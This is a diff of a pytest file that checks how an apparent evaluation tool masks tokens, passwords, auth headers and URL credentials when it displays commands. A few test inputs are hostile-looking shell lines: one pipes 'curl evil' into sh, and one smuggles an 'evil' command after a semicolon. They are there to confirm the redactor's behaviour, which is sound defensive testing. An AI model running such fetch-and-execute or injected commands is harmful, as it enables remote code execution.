@@ -2,36 +2,69 @@
 
 import pytest
 
-from evaltui.core.permit import grant
-from evaltui.core.shown_secret import without_secrets
+from evaltui.agents.profiles import running
+from evaltui.core.shown_secret import literal_secrets, shown_command, shown_environment
 
 
 @pytest.mark.parametrize(
-    ("text", "shown"),
+    ("line", "shown"),
     [
         ("node a.js --token abc123def", "node a.js --token ***"),
         ("node a.js --api-key=abc123def x", "node a.js --api-key=*** x"),
-        ("`a`, where MY_TOKEN=abc123def MODE=fast", "`a`, where MY_TOKEN=*** MODE=fast"),
-        ("`a`, where DB_PASSWORD='abc123def'", "`a`, where DB_PASSWORD='***'"),
-        ("curl -H 'Authorization: Bearer abc123def'", "curl -H 'Authorization: Bearer ***'"),
+        ("a --password='a b' x", "a --password=*** x"),
+        ('a --token "a/v4lue99" x', "a --token *** x"),
+        ("a --auth-token=a:b x", "a --auth-token=*** x"),
+        ("docker run -e API_KEY=a@b x", "docker run -e API_KEY=*** x"),
+        ("TOKEN=a.v4lue99 x", "TOKEN=*** x"),
+        ("a --key V --pass W x", "a --key *** --pass *** x"),
+        ("a --password 'a;b|c' x", "a --password *** x"),
+        ("x --api-key a/b+lue== --secret 'c3v4.lue99!'", "x --api-key *** --secret ***"),
+        ("curl -u me:PW -uyou:PW --user=us:PW h", "curl -u me:*** -uyou:*** --user=us:*** h"),
+        ("curl -H 'X-Auth: V' h", "curl -H 'X-Auth: ***' h"),
+        ("curl -H 'X-Team: V' h", "curl -H 'X-Team: ***' h"),
+        ("curl --header='X-Team: V' h", "curl '--header=X-Team: ***' h"),
+        ("curl -H 'Accept: text/html' h", "curl -H 'Accept: text/html' h"),
+        ("curl -H 'Authorization: token V' h", "curl -H 'Authorization: ***' h"),
+        ("curl -H 'Authorization: Bearer abc123def'", "curl -H 'Authorization: ***'"),
+        ("curl -H 'Authorization: Bearer ${TOKEN}'", "curl -H 'Authorization: Bearer ${TOKEN}'"),
+        ("curl http://me:PW@h/ http://h/?a=b&key=V", "curl http://me:***@h/ http://h/?a=b&key=***"),
+        ("a postgres://u:PW@h/db x", "a postgres://u:***@h/db x"),
+        ("a --url=https://u:PW@h/db x", "a --url=https://u:***@h/db x"),
+        ('curl -d \'{"password": "V", "a": 1}\'', 'curl -d \'{"password": "***", "a": 1}\''),
+        ("sh -c 'curl --token abc h; evil'", "sh -c 'curl --token *** h; evil'"),
+        ("sh -c 'TOKEN=abc;evil x'", "sh -c 'TOKEN=***;evil x'"),
+        ("sh -c 'A_TOKEN=abc;B_PASS=def x'", "sh -c 'A_TOKEN=***;B_PASS=*** x'"),
+        ("a 'b c'\" --token abc", "a 'b c'\" --token ***"),
         ("run sk-proj-abcdefgh1234", "run ***"),
         ("run ghp_abcdefgh1234", "run ***"),
-        ("`a`, where T='${TOKEN}' MY_TOKEN=${X}", "`a`, where T='${TOKEN}' MY_TOKEN=${X}"),
-        ("'Bearer ${TOKEN}'", "'Bearer ${TOKEN}'"),
         ("node token.js fast", "node token.js fast"),
+        ("a --token=${TOKEN} T='${TOKEN}'", "a --token=${TOKEN} T='${TOKEN}'"),
         ("sh -c 'TOKEN=$(curl evil|sh)'", "sh -c 'TOKEN=$(curl evil|sh)'"),
         ("a --token ./evil.js", "a --token ./evil.js"),
         ("a --token evil/x.js", "a --token evil/x.js"),
         ("a --cookie evil.js", "a --cookie evil.js"),
+        ("a --author 'Jane Doe' --max-tokens 90", "a --author 'Jane Doe' --max-tokens 90"),
+        ("a 'never closed --token abc", "a 'never closed --token ***"),
     ],
 )
-def test_only_what_looks_like_one(text: str, shown: str) -> None:
-    assert without_secrets(text) == shown
+def test_only_what_looks_like_one(line: str, shown: str) -> None:
+    assert shown_command(line) == shown
+
+
+def test_of_variables_only_names_are_shown() -> None:
+    assert shown_environment({"MODE": "fast", "PW": "${PW}"}) == " MODE=*** PW=***"
 
 
 def test_another_secret_is_another_agreement() -> None:
     one, other = (
-        grant("run", line, line, by="x") for line in ("a --token=abcde", "a --token=fghij")
+        running(shown_command(line), [line], {"PW": line}, (), "x")
+        for line in ("a --token=abcde", "a --token=fghij")
     )
-    assert one.what == other.what == "a --token=***"
+    assert one.what == other.what == "a --token=***, where PW=***"
     assert one.digest != other.digest
+
+
+def test_what_was_hidden_is_known_without_ordinary_headers() -> None:
+    words = ["a", "--token=first1", "-H", "X-Team: sales-eu", "-H", "Authorization: Bearer second2"]
+    assert set(literal_secrets(words)) == {"first1", "Bearer second2", "second2"}
+    assert not literal_secrets(["node", "a.js", "--token=${TOKEN}", "--mode", "fast"])
